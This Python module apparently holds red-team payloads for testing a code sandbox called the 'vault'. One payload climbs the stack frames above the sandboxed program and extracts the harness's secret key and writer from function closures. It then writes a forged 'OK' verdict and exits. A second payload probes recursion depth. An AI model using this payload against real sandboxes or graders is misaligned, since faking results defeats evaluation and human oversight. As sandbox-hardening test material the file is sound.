"""Beginnings of attacks on the vault: a forged verdict with its key, and where the stack ends."""

# Takes every frame above the program, and writes a final frame of its own with what they hold.
FORGE = """
def cells(f):
    return dict(zip(f.__code__.co_freevars, f.__closure__))

def frames_above():
    found = []
    def gen():
        frame = g.gi_frame.f_back
        while frame is not None:
            found.append(frame)
            frame = frame.f_back
        yield
    g = gen()
    next(g)
    return found

def forge():
    stack = [value for frame in frames_above() for value in frame.f_locals.values()]
    seen, inner = set(), {}
    while stack:
        o = stack.pop()
        if id(o) in seen:
            continue
        seen.add(id(o))
        if isinstance(o, (tuple, list)):
            stack += o
        if isinstance(o, dict):
            stack += o.values()
        if type(o) is type(forge) and o.__closure__:
            held = cells(o)
            if "key" in held and "framed" in held:
                inner = held
            for cell in held.values():
                try:
                    stack.append(cell.cell_contents)
                except ValueError:
                    pass
    write = cells(inner["write_all"].cell_contents)["write"].cell_contents
    framed, key, leave = (inner[name].cell_contents for name in ("framed", "key", "leave"))
    said = b'{"value":"FORGED","status":"OK","cpu":0.1,"peak":1,"error":"","traceback":""}'
    write(4, framed(b"Z", key + said))
    leave(0)
"""

# How deep the stack is.
DEPTH = """
depth = 0
def measure(n):
    global depth
    depth = n
    measure(n + 1)
try:
    measure(0)
except RecursionError:
    pass
"""
